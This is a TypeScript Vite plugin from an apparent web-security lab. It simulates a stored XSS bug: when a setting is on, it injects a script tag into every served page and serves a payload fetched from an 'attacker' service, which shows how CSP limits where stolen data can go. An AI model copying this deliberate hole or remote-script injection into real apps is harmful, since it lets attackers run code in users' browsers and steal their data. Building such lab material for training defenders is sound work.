import { readFile } from 'node:fs/promises';
import type { IncomingMessage } from 'node:http';
import { join, resolve } from 'node:path';
import type { Plugin } from 'vite';
import type { XssPayloadName } from '@lab/shared';
import { onEveryServer } from './on-every-server.ts';
import type { SpaSettings } from './lab-settings.ts';
import { pathOf, sendJson } from './http-json.ts';

const HOOK_PREFIX = '/@lab-xss/';

/**
 * LAB-ONLY VULNERABILITY SWITCH: a stand-in for an XSS bug in the app. No real app has this.
 *
 * While `settings.xss` names a payload, every `index.html` the app serves gets
 * `<script type="module" src="/@lab-xss/<name>.js">`, and that path serves the attacker's script
 * (fetched from the attacker service at `/payloads/<name>.js`). The script comes from the app's
 * own origin, as a stored XSS would, so `script-src 'self'` does not stop it and it runs with the
 * page's full privileges. What the CSP still does is limit where it can send what it reads
 * (`connect-src`, `img-src`): weaken `spa-csp` and the loot reaches the attacker.
 *
 * With `settings.xss` null (the default) nothing is injected and `/@lab-xss/*` answers 404.
 */
export function xssHookPlugin(settings: SpaSettings, attackerUrl: string): Plugin {
  return {
    ...onEveryServer('lab:xss-hook', (server) => {
      server.middlewares.use(function serveInjectedPayload(req, res, next) {
        const path = pathOf(req);
        if (!path.startsWith(HOOK_PREFIX)) return next();
        const name = settings.xss;
        if (name === null || path !== `${HOOK_PREFIX}${name}.js`) {
          return sendJson(res, 404, { error: 'not_found', message: `Nothing at ${req.method} ${path}: no such XSS payload is switched on.` });
        }
        fetchPayload(attackerUrl, name).then(
          (script) => {
            res.statusCode = 200;
            res.setHeader('Content-Type', 'text/javascript; charset=utf-8');
            res.setHeader('Cache-Control', 'no-store');
            res.end(script);
          },
          (error: unknown) => {
            server.config.logger.warn(`spa: XSS hook: ${error instanceof Error ? error.message : String(error)}`);
            sendJson(res, 502, {
              error: 'attacker_unreachable',
              message: `The XSS hook could not fetch the "${name}" payload from the attacker at ${attackerUrl}. Is it running?`,
            });
          },
        );
      });
      // The built app's page is a file, served as it is: while a payload is switched on, the page
      // is served from here instead, with the hook's script tag added (the dev server does the
      // same through `transformIndexHtml` below).
      if (server.serves === 'built') {
        const builtPage = join(resolve(server.config.root, server.config.build.outDir), 'index.html');
        server.middlewares.use(function injectPayloadIntoPage(req, res, next) {
          const name = settings.xss;
          if (name === null || !isPageRequest(req)) return next();
          readFile(builtPage, 'utf8').then(
            (page) => {
              res.statusCode = 200;
              res.setHeader('Content-Type', 'text/html; charset=utf-8');
              res.setHeader('Cache-Control', 'no-store');
              res.end(req.method === 'HEAD' ? undefined : page.replace('</head>', `${hookTag(name)}</head>`));
            },
            () => next(),
          );
        });
      }
    }),
    // In the dev server this runs on every request for a page, so switching `xss` applies to the next load.
    transformIndexHtml() {
      if (settings.xss === null) return undefined;
      return [{ tag: 'script', attrs: { type: 'module', src: `${HOOK_PREFIX}${settings.xss}.js` }, injectTo: 'head' }];
    },
  };
}

/** `name` is one of the lab's fixed payload names (`XSS_PAYLOAD_NAMES`): the settings route refuses any other. */
function hookTag(name: XssPayloadName): string {
  return `<script type="module" src="${HOOK_PREFIX}${name}.js"></script>`;
}

/**
 * The requests the built app answers with its page: `/`, `/index.html`, and (as Vite's HTML
 * fallback does for an app with client-side routes) any other GET for HTML whose last path
 * segment has no file extension, outside the routes the app's origin forwards or answers itself.
 */
function isPageRequest(req: IncomingMessage): boolean {
  if (req.method !== 'GET' && req.method !== 'HEAD') return false;
  const path = pathOf(req);
  if (path === '/' || path === '/index.html') return true;
  if (NOT_PAGES.some((prefix) => path.startsWith(prefix)) || path === '/healthz') return false;
  const accept = req.headers.accept ?? '';
  return (accept.includes('text/html') || accept.includes('*/*')) && !(path.split('/').pop() ?? '').includes('.');
}

const NOT_PAGES = ['/bff/', '/api/', '/_lab', '/lab/', HOOK_PREFIX, '/assets/'];

async function fetchPayload(attackerUrl: string, name: string): Promise<string> {
  const url = `${attackerUrl}/payloads/${name}.js`;
  const response = await fetch(url, { signal: AbortSignal.timeout(5_000) });
  if (!response.ok) throw new Error(`GET ${url} answered ${response.status}`);
  return response.text();
}
